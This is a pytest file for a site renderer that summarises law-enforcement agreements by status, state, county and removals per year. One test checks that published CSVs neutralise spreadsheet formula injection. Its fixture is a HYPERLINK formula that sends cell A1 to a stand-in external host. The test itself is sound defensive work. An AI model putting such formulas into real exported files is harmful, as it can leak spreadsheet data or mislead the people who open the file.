"""The renderer's table-to-table functions, on five-row tables."""

from __future__ import annotations

import pandas as pd
import pytest

from ledger import site as render


def agreements(*rows):
    columns = ["agreement_id", "list_kind", "agency_id", "state", "county", "support_type", "status", "publication_ids"]
    return pd.DataFrame([dict(zip(columns, r)) for r in rows])


def test_active_means_on_the_latest_list():
    frame = agreements(
        ("a", "participating", "TX-a", "TX", "Smith County", "Task Force Model", "active", ["p1", "p2"]),
        ("b", "participating", "TX-b", "TX", "Smith County", "Task Force Model", "active", ["p1"]),  # in a gap
        ("c", "participating", "TX-c", "TX", None, "Task Force Model", "ended", ["p1"]),
        ("d", "pending", "TX-d", "TX", None, "Task Force Model", "pending", ["n1"]),
        ("e", "pending", "TX-e", "TX", None, "Task Force Model", "pending", ["n0"]),
    )
    shown = render.with_display_status(frame, "p2", "n1")
    assert shown["display_status"].tolist() == ["active", "absent_latest", "ended", "pending", "absent_latest"]
    states = pd.DataFrame({"usps": ["TX", "VT"], "title": ["Texas", "Vermont"], "fips": ["48", "50"], "kind": ["state", "state"]})
    figures = render.state_figures(shown, states).set_index("usps")
    assert figures.loc["TX", ["active", "agencies", "pending", "ever"]].tolist() == [1, 1, 1, 3]
    assert figures.loc["VT", ["active", "ever"]].tolist() == [0, 0]


def test_steps_keep_changes_and_close_the_latest_list():
    dates = pd.to_datetime(["2025-01-01", "2025-01-02", "2025-01-03", "2025-01-04"])
    series = pd.DataFrame({"date": dates, "state": "TX", "support_type": "Task Force Model", "agreements": [1, 1, 2, 2]})
    kept = render.steps(series)
    assert kept["date"].dt.strftime("%m-%d").tolist() == ["01-01", "01-03", "01-04", "01-05"]
    assert kept["agreements"].tolist() == [1, 2, 2, 2]


@pytest.mark.parametrize(
    "county, expected",
    [
        ("Smith County", "smith"),
        ("St. Lucie County", "st lucie"),
        ("Saint Johns County", "st johns"),
        ("Calcasieu Parish", "calcasieu"),
        ("Juneau City and Borough", "juneau"),
    ],
)
def test_county_names_are_compared_without_their_kind(county, expected):
    assert render.normalise_county(county) == expected


def test_counties_match_by_fips_and_the_rest_are_listed():
    features = (
        {"id": "48423", "properties": {"name": "Smith"}},
        {"id": "48201", "properties": {"name": "Harris"}},
        {"id": "12111", "properties": {"name": "St. Lucie"}},
    )
    frame = agreements(
        ("a", "participating", "TX-a", "TX", "Smith County", "Task Force Model", "active", ["p"]),
        ("b", "participating", "TX-b", "TX", "Smith County, Harris County", "Task Force Model", "active", ["p"]),
        ("c", "participating", "TX-c", "TX", "Atlantis County", "Task Force Model", "active", ["p"]),
        ("d", "participating", "TX-d", "TX", "Harris County", "Task Force Model", "ended", ["p"]),
    ).assign(display_status=lambda f: f["status"])
    counts, unmatched = render.county_matches(frame, features, "48")
    assert counts == {"48423": 2, "48201": 1}
    assert unmatched == ["Atlantis County"]


def test_removals_per_year_keep_not_reported_apart_from_zero():
    by_agency = pd.DataFrame(
        {
            "agency_name": ["A", "A", "B", "B"],
            "fiscal_year": [2008, 2009, 2008, 2009],
            "removed": [10, None, 0, 5],
            "source": "ICE", "source_url": "https://www.ice.gov/x.pdf",
        }
    )  # fmt: skip
    national = pd.DataFrame({"fiscal_year": [2008, 2009], "removals": [1000, 500], "source": "TRAC", "source_url": ""})
    per_year = render.removals_per_year(by_agency, national)
    assert per_year[["fiscal_year", "removed", "agencies", "national_removed"]].values.tolist() == [[2008, 10, 2, 1000], [2009, 5, 1, 500]]
    assert per_year["share_text"].tolist() == ["1.0%", "1.0%"]
    assert render.num(pd.NA) == "" and render.num(0) == "0"


@pytest.mark.parametrize("value", [None, float("nan"), pd.NA, pd.NaT])
def test_a_missing_value_is_shown_as_nothing_in_every_formatter(value):
    from ledger.site import format as fmt

    assert (fmt.h(value), fmt.md(value), fmt.num(value), fmt.day(value), fmt.safe_url(value), fmt.figure(value)) == ("",) * 6


def test_published_csvs_neutralise_what_a_spreadsheet_would_run_and_keep_numbers():
    import io

    from ledger.common.spreadsheet import csv_text, neutralise

    assert neutralise("\rCR") == "'\rCR" and neutralise(-1) == -1
    names = ['=HYPERLINK("http://x.example/"&A1,"Click for MOA")', "+1+1 Sheriff", "-2 Police", "@SUM(A1)", "\tTab", "Plain Sheriff"]
    frame = pd.DataFrame({"agency_name": names, "active": range(-3, 3), "share": [0.5, -0.25, None, 1.0, 2.0, 3.0]})
    back = pd.read_csv(io.StringIO(csv_text(frame)), keep_default_na=False)
    assert all(not str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in back["agency_name"])
    assert back["agency_name"].tolist()[0] == "'" + names[0] and back["agency_name"].tolist()[-1] == "Plain Sheriff"
    assert back["active"].tolist() == [-3, -2, -1, 0, 1, 2]  # numbers stay numbers, signs included
